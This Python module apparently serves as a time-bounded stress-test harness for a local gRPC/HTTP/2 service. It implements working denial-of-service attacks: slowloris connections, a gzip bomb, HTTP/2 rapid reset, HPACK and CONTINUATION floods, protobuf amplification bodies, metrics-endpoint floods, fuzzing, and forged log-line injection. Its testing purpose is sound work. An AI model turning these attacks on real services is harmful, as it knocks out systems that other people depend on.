"""What is done to a service. Each function attacks until a moment, with a key or without, and is bounded in what it
sends. Attackers have an address of their own. Errors are what they expect."""

import os
import random
import socket
import struct
import time
import zlib

from h2 import (ABORT, ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GENERATE, GENERATE_STREAM, HEADERS, PING,
                PREFACE, PRIORITY, RST_STREAM, SETTINGS, TOKENIZE, WATCH, WINDOW_UPDATE, Connection, block, field, frame,
                generate_request, message, proto)

MIB = 1 << 20
SOURCE = "127.0.0.2"


def connect(address):
    return socket.create_connection(address, timeout=5, source_address=(SOURCE, 0))


class Target:
    def __init__(self, address, metrics, tls, key, until):
        self.address, self.metrics, self.tls, self.key, self.until = address, metrics, tls, key, until

    def connect(self, **options):
        return Connection(self.address, self.tls, timeout=5, source=SOURCE, **options)

    def goes_on(self):
        return time.monotonic() < self.until

    def hold(self):
        time.sleep(max(0, self.until - time.monotonic()))


def silent_connections(target, count=1500):
    """Connections that never say a word."""
    held = []
    try:
        while len(held) < count and target.goes_on():
            held.append(connect(target.address))
    except OSError:
        pass
    target.hold()


def dripping_connections(target, count=300):
    """Connections that greet a byte at a time."""
    held = [connect(target.address) for _ in range(count)]
    for byte in PREFACE:
        for one in held:
            try:
                one.send(bytes([byte]))
            except OSError:
                pass
        time.sleep(0.3)
        if not target.goes_on():
            break


def idle_connections(target, count=1500):
    """Connections that greet, and ask for nothing."""
    held = []
    while len(held) < count and target.goes_on():
        try:
            held.append(target.connect())
        except OSError:
            time.sleep(0.01)
    target.hold()


def make_bomb(pieces):
    """So many times 16 MiB of zeros, gzipped: blocks that stand on their own are repeated. The sum behind them is wrong,
    which is seen when everything is unpacked."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(16 * MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + piece * pieces + b"\x03\0" + bytes(8)


def gzip_bomb(target, pieces=32):
    """Messages of half a megabyte that are half a gigabyte."""
    bomb = make_bomb(pieces)
    while target.goes_on():
        with target.connect() as one:
            stream = one.open(GENERATE, target.key, extra=[("grpc-encoding", "gzip")])
            one.send_data(stream, message(bomb, compressed=True), end=True)
            time.sleep(1)


def huge_message(target, size=768 * MIB):
    """One message that is announced and sent whole."""
    with target.connect() as one:
        stream = one.open(GENERATE, target.key)
        one.send(frame(DATA, 0, stream, message(b"", size=size)))
        piece = frame(DATA, 0, stream, bytes(16384)) * 16
        for _ in range(size // (16 * 16384)):
            if not target.goes_on():
                break
            one.send(piece)
        target.hold()


def unfinished_messages(target, count=200, size=4 * MIB - 64):
    """Many messages that lack their last byte."""
    held = []
    for _ in range(10):
        one = target.connect()
        held.append(one)
        for _ in range(count // 10):
            stream = one.open(GENERATE, target.key)
            one.send(frame(DATA, 0, stream, message(b"", size=size)))
            for _ in range((size - 1) // 16384):
                if not target.goes_on():
                    return
                one.send(frame(DATA, 0, stream, bytes(16384)))
    target.hold()


def unfinished_requests(target, count=5000):
    """Many requests of which only the headers come."""
    held = []
    for _ in range(20):
        one = target.connect()
        held.append(one)
        for _ in range(count // 20):
            one.open(GENERATE, target.key)
    target.hold()


def rapid_reset(target, connections=2):
    """Streams that are opened and reset as fast as they can be written."""
    held = [target.connect() for _ in range(connections)]
    for one in held:
        one.socket.settimeout(0.2)
    head = block(GENERATE_STREAM, target.key)
    body = message(generate_request(b"a", 50))
    while target.goes_on():
        for one in held:
            pieces = []
            for _ in range(200):
                pieces += [frame(HEADERS, END_HEADERS, one.next, head), frame(DATA, END_STREAM, one.next, body),
                           frame(RST_STREAM, 0, one.next, struct.pack(">I", 8))]
                one.next += 2
            data = b"".join(pieces)
            while data and target.goes_on():  # a cut frame would end the connection
                try:
                    data = data[one.socket.send(data):]
                except TimeoutError:
                    pass


def health_watches(target, count=5000):
    """Watches of health, none of which is read."""
    held = []
    for _ in range(50):
        one = target.connect()
        held.append(one)
        for _ in range(count // 50):
            stream = one.open(WATCH, target.key)
            one.send_data(stream, message(b""), end=True)
    target.hold()


def large_headers(target):
    """Header blocks that never end, and such that refer to one large field again and again."""
    while target.goes_on():
        with target.connect() as one:
            large = b"\x40" + b"\x01a" + b"\x7f" + b"\xa1\x1e" + b"b" * 4000  # 4,000 bytes that go into the table
            one.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block(GENERATE, target.key) + large + b"\xbe" * 12000))
            one.send(frame(HEADERS, 0, 3, block(GENERATE, target.key)))
            for _ in range(2000):
                one.send(frame(CONTINUATION, 0, 3, field("x", b"y" * 8000)))


def control_frames(target):
    """PING, SETTINGS, PRIORITY and WINDOW_UPDATE without end."""
    while target.goes_on():
        with target.connect() as one:
            pieces = frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) + \
                frame(PRIORITY, 0, 1, bytes(5)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
            for _ in range(200):
                one.send(pieces * 100)


def costly_bodies(target):
    """Whole messages of four megabytes that are slow to parse."""
    entry = proto(10, b"\x08\x01\x15\0\0\0\0")
    request = proto(7, entry * (4 * MIB // len(entry) - 64))
    while target.goes_on():
        with target.connect() as one:
            for _ in range(20):
                if target.goes_on():
                    one.send_data(one.open(GENERATE, target.key), message(request), end=True)


def crowded_bodies(target):
    """Whole messages of four megabytes that are two million empty ones each: a hundred times as large once they are
    parsed. Their frames come as fast as the service takes them, so that they are."""
    request = message(proto(5, proto(1, b"") * (2 * MIB - 64)))
    while target.goes_on():
        with target.connect() as one:
            stream = one.open(GENERATE, target.key)
            for at in range(0, len(request), 16384):
                one.send(frame(DATA, END_STREAM if at + 16384 >= len(request) else 0, stream, request[at:at + 16384]))
                time.sleep(0.0005)
            time.sleep(0.5)


def metrics_post(target, size=1024 * MIB):
    """A request for metrics with a body that fills memory."""
    with connect(target.metrics) as one:
        one.sendall(b"POST /metrics HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % size)
        for _ in range(size // 65536):
            if not target.goes_on():
                break
            one.sendall(bytes(65536))


def metrics_drip(target, count=100):
    """Scrapes a byte at a time, and such that never read."""
    held = [connect(target.metrics) for _ in range(count)]
    request = b"GET /metrics HTTP/1.1\r\nHost: a\r\nX-" + b"a" * 100_000
    for byte in request:
        for one in held:
            try:
                one.send(bytes([byte]))
            except OSError:
                pass
        time.sleep(0.2)
        if not target.goes_on():
            break


def random_frames(target):
    """Frames of random kinds, flags, streams and bytes."""
    while target.goes_on():
        with target.connect(greet=random.random() < 0.9) as one:
            for _ in range(random.randrange(1, 200)):
                kind = random.choice([DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION,
                                      random.randrange(256)])
                payload = random.choice([b"", bytes(4), random.randbytes(random.randrange(64)),
                                         random.randbytes(random.randrange(16384)), block(GENERATE, target.key)])
                one.send(frame(kind, random.choice([0, 1, 4, 5, random.randrange(256)]),
                               random.choice([0, 1, 3, one.next, random.randrange(1 << 31)]), payload))
                one.next += 2


def random_requests(target):
    """Messages of random bytes, and requests with one byte changed, to random methods."""
    methods = [GENERATE, GENERATE_STREAM, TOKENIZE, ABORT, WATCH, "/octet.v1.Generation/Detokenize", "/", "x" * 500,
               "/octet.v1.Generation/GetServerInfo", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"]
    while target.goes_on():
        with target.connect() as one:
            for _ in range(random.randrange(1, 40)):
                body = bytearray(generate_request(b"a", 5))
                body[random.randrange(len(body))] = random.randrange(256)
                body = random.choice([bytes(body), random.randbytes(random.randrange(200)), b""])
                extra = random.choice([[], [("grpc-timeout", random.choice(["1n", "99999999H", "-1S", "x", "0m"]))],
                                       [("x-bin", "!"), ("grpc-encoding", "deflate")]])
                stream = one.open(random.choice(methods), target.key, extra=extra)
                one.send_data(stream, message(body), end=random.random() < 0.8)


def forged_lines(target):
    """Request ids that look like lines of a job's log, and calls that are aborted."""
    forged = [b"x\noctet: rank 1 (host b) died: y", b"-" * 62, b"\n" + b"-" * 62 + b"\n", b"\x1b[2J\r\noctet: rank 0 died",
              b"octet rank 1: fatal: no memory\n\n", b"mpirun noticed that process rank 1 exited on signal 9\n"]
    while target.goes_on():
        with target.connect() as one:
            for _ in range(random.randrange(1, 10)):
                name = random.choice(forged) + random.randbytes(2).hex().encode()
                stream = one.open(GENERATE_STREAM, target.key)
                one.send_data(stream, message(generate_request(b"a", random.randrange(1, 30), name)), end=True)
                if random.random() < 0.5:
                    stream = one.open(ABORT, target.key)
                    one.send_data(stream, message(proto(1, name)), end=True)
            time.sleep(0.1)


def half_open_tls(target, count=200):
    """The beginnings of TLS, and nothing behind them."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(random.randrange(400))
    held = []
    for _ in range(count):
        one = connect(target.address)
        one.send(hello[:random.randrange(1, len(hello))])
        held.append(one)
    target.hold()


def busy_loop(target):
    """No attack: what an attacker's own work costs on this host."""
    while target.goes_on():
        pass


# Name, function, whether a key makes a difference.
ALL = [
    ("none: a busy loop beside the service", busy_loop, False),
    ("silent connections", silent_connections, False),
    ("connections that greet a byte at a time", dripping_connections, False),
    ("idle connections", idle_connections, False),
    ("half-open TLS", half_open_tls, False),
    ("gzip bomb", gzip_bomb, True),
    ("one huge message", huge_message, True),
    ("200 unfinished messages of 4 MiB", unfinished_messages, True),
    ("5,000 unfinished requests", unfinished_requests, True),
    ("rapid reset", rapid_reset, True),
    ("5,000 health watches", health_watches, False),
    ("endless and repeated headers", large_headers, False),
    ("control frames", control_frames, False),
    ("bodies that are slow to parse", costly_bodies, True),
    ("bodies of millions of empty messages", crowded_bodies, True),
    ("metrics: huge POST", metrics_post, False),
    ("metrics: dripping scrapes", metrics_drip, False),
    ("random frames", random_frames, False),
    ("random requests", random_requests, True),
    ("forged log lines, aborts", forged_lines, True),
]


def leave_the_machine():
    """An attacker has a machine of its own; this one takes only what nobody else wants of this host's processors. With
    sched_autogroup a process is nice to others of its session only, and sessions are to each other."""
    if os.getsid(0) == os.getpid():
        return  # it has left
    os.setsid()
    os.nice(19)
    try:
        with open("/proc/self/autogroup", "w") as file:
            file.write("19")
    except OSError:
        pass  # there is no such thing here: the niceness counts


def run(attack, address, metrics, tls, key, seconds, compete=False):
    """In a process of its own: again where it ends early. `compete`: for the host's processors, too."""
    if not compete:
        leave_the_machine()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            attack(Target(address, metrics, tls, key, until))
        except (OSError, ConnectionError):
            time.sleep(0.05)
